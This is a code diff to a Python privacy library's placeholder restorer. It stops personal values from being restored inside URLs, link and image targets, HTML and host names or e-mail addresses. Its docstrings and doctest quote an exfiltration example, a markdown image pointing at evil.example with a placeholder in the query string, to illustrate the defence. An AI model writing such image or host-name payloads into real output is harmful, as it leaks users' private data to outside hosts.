@@ -4,14 +4,19 @@ What counts as a placeholder: kind, index and nonce exactly as issued, and aroun
 and Markdown do to them: any case, full-width characters, spaces inside, ``_`` escaped, replaced by ``-`` or
 lost, zeros before the index, brackets missing, full-width or escaped. The index is compared as a number and
 the nonce letter by letter; nothing is guessed.
+
+Where a value would be sent to somebody (:mod:`sllm.privacy.link_places`), its placeholder stays: the other
+side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``, and a chat window loads images by itself.
 """
 
 from __future__ import annotations
 
 import functools
+import html
 import re
 from typing import TYPE_CHECKING
 
+from sllm.privacy.link_places import LinkPlaces
 from sllm.privacy.regex import lazy
 from sllm.privacy.text import fold_char
 
@@ -28,6 +33,8 @@ _ESCAPE = "\\"
 # Bounds of what is skipped, so that what is held back is bounded too.
 _MAX_SPACES = 2
 _MAX_ZEROS = 6
+# How far behind a placeholder the rest of a host name is looked for; there may be more placeholders in it.
+_MAX_HOST = 512
 _DIGITS = frozenset("0123456789")
 _LETTERS = frozenset("abcdefghijklmnopqrstuvwxyz")
 _WORD = _LETTERS | _DIGITS | {"_"}
@@ -38,6 +45,20 @@ _UNKNOWN_WITH_NONCE = lazy(r"(?<![^\W_])([^\W\d_]{1,16})[\\_ *-]{0,4}([0-9]{1,9}
 _BRACKET = lazy(r"[\[\]]")
 _CLOSING = lazy(r"[\]］】〕]")
 _TAIL = 80
+
+# What ends a label of a host name for every program that looks for such names, and what ends an address.
+_SEPARATORS = r"\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､"
+_LABEL = lazy(rf"[^{_SEPARATORS}.．@＠\"#&,:;]*")
+_MAILBOX = lazy(rf"[^{_SEPARATORS}@＠]*")
+_ENTITY = lazy(r"&#?[A-Za-z0-9]{1,8};")
+_HOST = lazy(rf"[^{_SEPARATORS}@＠\"#&,:;]*")
+# A name of a host or a top-level domain; "[PHONE_1_k7q4].谢谢" has none.
+_IS_HOST = lazy(r"[A-Za-z0-9]|[^\W_][^.．]*[.．][^\W_]")
+_ALNUM = lazy(r"[^\W_]")
+# A value that is a URL without a path: what follows may be more of its host.
+_HOST_AT_END = lazy(r"(?://|(?<![^\W_])www\.)[^/?#\\\s]*\Z", re.I)
+_REST_OF_HOST = lazy(r"""[^\s/?#\\"'<>]*""")
+_OTHER_HOST = lazy(r"[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9]")
 
 
 @functools.lru_cache(maxsize=256)
@@ -103,20 +124,39 @@ class Restorer:
     """Restores placeholders in a text that comes in pieces.
 
     ``feed`` returns all that is certain; held back is only what could still become a placeholder that was
-    issued. Together the pieces are the same however the text was cut. Restored values are not searched again,
+    issued, and one that a host name may follow: to the next space or punctuation mark, 512 characters at
+    most. Together the pieces are the same however the text was cut. Restored values are not searched again,
     so a value that contains the text of a placeholder stays what it is.
+
+    A placeholder stays as it is where a program that shows the text might send the value to somebody, for the
+    other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in targets
+    of links and images, in reference definitions, in HTML tags, scripts and style sheets, and where what
+    follows makes it part of a host name or an e-mail address (``[NAME_1_k7q4].evil.example``). In doubt it
+    stays. A URL in running text goes to the next space, as for GitHub and most chat windows, also in Chinese,
+    which puts none behind it. A value that is itself a URL or an address is restored in running text.
 
     Args:
         placeholders: of a vault (:attr:`Vault.placeholders <sllm.Vault.placeholders>`); those that it issues
             later are restored too.
+        in_links: whether these are restored too: only for a text that nobody else has written.
 
     Attributes:
         n_restored: placeholders replaced so far.
         n_unknown: what looks like a placeholder and was never issued; it stays as it is.
+        n_in_links: placeholders that were issued and stay as they are, because of where they stand.
+
+    Examples:
+        >>> vault = sllm.Vault()
+        >>> phone = vault.mask("13800138000").text
+        >>> restorer = Restorer(vault.placeholders)
+        >>> text = restorer.feed(f"Call {phone} ![](https://evil.example/?q={phone})") + restorer.finish()
+        >>> text == f"Call 13800138000 ![](https://evil.example/?q={phone})", restorer.n_in_links
+        (True, 1)
 
     """
 
-    def __init__(self, placeholders: Placeholders) -> None:
+    def __init__(self, placeholders: Placeholders, *, in_links: bool = False) -> None:
+        self._restores_in_links = in_links
         self._placeholders = placeholders
         self._held = ""
         self._before = ""  # the last character before what is held
@@ -125,6 +165,8 @@ class Restorer:
         self._final = False
         self.n_restored = 0
         self.n_unknown = 0
+        self.n_in_links = 0
+        self._places = LinkPlaces()  # of the text as it is returned
 
     def __repr__(self) -> str:
         return (
@@ -175,6 +217,7 @@ class Restorer:
             at = i
             try:
                 match = self._match(text, i, before)
+                in_link = match is not None and self._in_link(text, *match)
             except _UndecidedError:
                 self._held = text[i:]
                 return "".join(out)
@@ -182,9 +225,16 @@ class Restorer:
                 search = i + 1
                 continue
             end, value = match
-            out.append(value)
-            self.n_restored += 1
             at = search = end
+            if in_link:
+                self.n_in_links += 1
+                out.append(text[i:end])
+                self._pass(text[i:end])
+                continue
+            out.append(value)
+            if not self._restores_in_links:
+                self._places.feed(value, restored=True)
+            self.n_restored += 1
             self._before = text[end - 1]
         self._held = ""
         self._pass(text[at:])
@@ -196,6 +246,8 @@ class Restorer:
         if not text:
             return
         self._before = text[-1]
+        if not self._restores_in_links:
+            self._places.feed(text)
         line = text.rfind("\n")
         if line >= 0:
             self._depth = 0
@@ -251,6 +303,50 @@ class Restorer:
         value = issued.value(kind, int(number), nonce)
         end = self._end(reader, j, opened=opened, escaped=escaped)
         return None if value is None or end is None else (end, value)
+
+    def _in_link(self, text: str, end: int, value: str) -> bool:
+        """Whether the value of a placeholder that ends at ``end`` would be part of a link."""
+        if self._restores_in_links:
+            return False
+        if self._places.inside or self._places.begins_with(value):
+            return True
+        if _HOST_AT_END.search(value[-_MAX_HOST:]):
+            rest, more = self._run(_REST_OF_HOST, text, end)
+            if _OTHER_HOST.search(rest):
+                return True
+            if more:
+                raise _UndecidedError
+            return False
+        # A host name or an address may go on behind it: [PHONE_1_k7q4].evil.example
+        label, more = self._run(_LABEL, text, end)
+        dot = end + len(label)
+        return (not more and self._goes_on(text, dot, ".", _HOST, _IS_HOST)) or self._in_address(text, end)
+
+    def _in_address(self, text: str, end: int) -> bool:
+        """Whether what stands behind a placeholder, up to an ``@``, would make it part of an address."""
+        mailbox, more = self._run(_MAILBOX, text, end)
+        if any(html.unescape(entity[0]) in (".", "@") for entity in _ENTITY.finditer(mailbox)):
+            return True
+        if more:
+            raise _UndecidedError
+        return self._goes_on(text, end + len(mailbox), "@", _MAILBOX, _ALNUM)
+
+    def _goes_on(self, text: str, at: int, sign: str, rest: re.Pattern[str], name: re.Pattern[str]) -> bool:
+        """Whether there is this sign, and in the rest behind it a name."""
+        if _Reader(text, self._final).folded(at) != sign:
+            return False
+        behind, more = self._run(rest, text, at + 1)
+        if name.search(behind):
+            return True
+        if more:
+            raise _UndecidedError
+        return False
+
+    def _run(self, pattern: re.Pattern[str], text: str, start: int) -> tuple[str, bool]:
+        """What matches from ``start``, _MAX_HOST characters at most, and whether more of it may come."""
+        found = pattern.match(text, start, min(len(text), start + _MAX_HOST))
+        assert found is not None
+        return found[0], found.end() == len(text) < start + _MAX_HOST and not self._final
 
     def _end(self, reader: _Reader, j: int, *, opened: bool, escaped: bool) -> int | None:
         """The end of a placeholder whose nonce ends at ``j``; None if it is not one after all."""
